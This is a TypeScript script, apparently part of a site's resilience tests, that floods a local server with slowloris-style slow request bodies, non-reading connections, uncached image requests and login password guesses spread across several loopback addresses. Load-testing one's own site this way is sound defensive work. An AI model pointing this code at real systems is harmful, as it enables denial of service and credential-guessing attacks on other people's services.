/** Floods the host until it is killed: `node --import tsx attacker.ts <kind> <port> <paths as JSON>`. Runs in a process of its own, at a lower priority than the site. */
import { connect } from 'node:net';
import { ATTACKERS, type AttackKind } from './kinds.ts';

const ADDRESSES = 8;
/** Refused connections are opened again, not at once. */
const AGAIN_MS = 50;

const [kind, port, paths] = process.argv.slice(2);
const pictures: string[] = JSON.parse(paths ?? '[]');
let requests = 0;

const head = (line: string, headers: readonly string[] = []): string => `${[`${line} HTTP/1.1`, 'host: site', ...headers].join('\r\n')}\r\n\r\n`;
const post = (path: string, type: string, body: string, length = body.length): string =>
  head(`POST ${path}`, [`content-type: ${type}`, 'authorization: Bearer x', `content-length: ${length}`]) + body;

/** The next request of a connection, and whether it sends a byte per second afterwards, or reads nothing. */
const REQUESTS: Readonly<Record<AttackKind, (count: number) => { text: string; sends?: boolean; reads?: boolean }>> = {
  'slow bodies': (count) => {
    const [path, type] = [
      ['/api/page-views', 'multipart/form-data; boundary=x'],
      ['/api/posts', 'multipart/form-data; boundary=x'],
      ['/api/auth/login', 'application/json'],
      ['/volunteer', 'application/x-www-form-urlencoded'],
    ][count % 4] ?? ['', ''];
    return { text: post(path ?? '', type ?? '', '-', 5000), sends: true };
  },
  'slow readers': (count) => ({ text: head(`GET ${pictures[count % pictures.length]}`), reads: false }),
  'uncached images': (count) => ({ text: head(`GET ${pictures[count % pictures.length]}`, ['accept: image/avif,image/webp']) }),
  'password guesses': (count) => ({
    text: post('/api/auth/login', 'application/json', JSON.stringify({ email: `colleague${count % 50}@site.example`, password: `guess ${count}` })),
  }),
};

const attack = (index: number): void => {
  const getRequest = REQUESTS[kind as AttackKind];
  const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: `127.0.0.${2 + (index % ADDRESSES)}` });
  let timer: NodeJS.Timeout | undefined;
  const send = (): void => {
    requests += 1;
    const { text, sends = false, reads = true } = getRequest(requests);
    socket.write(text);
    if (!reads) socket.pause();
    if (sends) timer = setInterval(() => socket.writable && socket.write('-'), 1000);
  };
  socket.on('connect', send);
  // One answer has arrived, at least its beginning: the next request.
  socket.on('data', () => timer === undefined && send());
  socket.on('error', () => undefined);
  socket.on('close', () => {
    clearInterval(timer);
    setTimeout(() => attack(index), AGAIN_MS);
  });
};

// Connections that nobody reads do not keep a process alive.
setInterval(() => undefined, 1000);
for (let index = 0; index < ATTACKERS; index += 1) attack(index);
